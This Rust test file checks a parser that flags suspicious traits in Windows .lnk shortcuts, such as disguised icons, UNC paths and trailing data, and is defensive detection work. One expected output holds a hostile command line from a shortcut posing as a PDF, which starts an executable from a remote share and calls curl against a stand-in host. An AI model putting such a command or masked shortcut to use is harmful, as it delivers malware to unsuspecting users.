//! Shortcuts made by another program.

use expect_test::expect;

use crate::formats::shown::{damage, open, shown};

const COMMAND: &[u8] = include_bytes!("../../../testdata/small/command.lnk");

#[test]
fn a_shortcut_to_a_document_is_clean() {
    expect![[r#"
        1 lnk [Report.lnk] 
            text: C:\Users\alice\Documents\Report 2024.docx
            text: Quarterly report
            other: C:\Users\alice\Documents
    "#]]
    .assert_eq(&shown("Report.lnk", include_bytes!("../../../testdata/small/document.lnk")));
}

#[test]
fn a_shortcut_with_a_command_behind_a_mask() {
    expect![[r#"
        1 lnk [Invoice.pdf.lnk] command_line icon_disguise unc_path
            text: C:\Windows\System32\cmd.exe /c start \\198.51.100.7\share\a.exe & curl https://load.example/x
            other: C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe
            Field: \\198.51.100.7\share\a.exe []
            Field: https://load.example/x []
    "#]]
    .assert_eq(&shown("Invoice.pdf.lnk", COMMAND));
}

#[test]
fn a_shortcut_to_a_share() {
    expect![[r#"
        1 lnk [plans.lnk] unc_path
            text: \\FILES.EXAMPLE\PUBLIC
            other: \\files.example\public\plans.docx
            Field: \\FILES.EXAMPLE\PUBLIC []
            Field: \\files.example\public\plans.docx []
    "#]]
    .assert_eq(&shown("plans.lnk", include_bytes!("../../../testdata/small/share.lnk")));
}

#[test]
fn what_hangs_behind_is_a_file_of_its_own() {
    let content = open("a.lnk", "", &[COMMAND, b"\0\0\0\0MZ and a program"].concat());
    assert!(content.items[0].marks.iter().any(|mark| mark == "archive_trailing"));
    assert_eq!(content.items[1].place, "1/lnk:0");
}

#[test]
fn one_cut_short_is_said() {
    let content = open("a.lnk", "", COMMAND.get(..200).unwrap_or_default());
    assert_eq!(content.unopened[0].why.word(), "broken");
}

#[test]
fn damaged_ones_break_nothing() {
    damage("a.lnk", "", COMMAND, 2_000);
    damage("a.lnk", "", include_bytes!("../../../testdata/small/share.lnk"), 1_000);
}
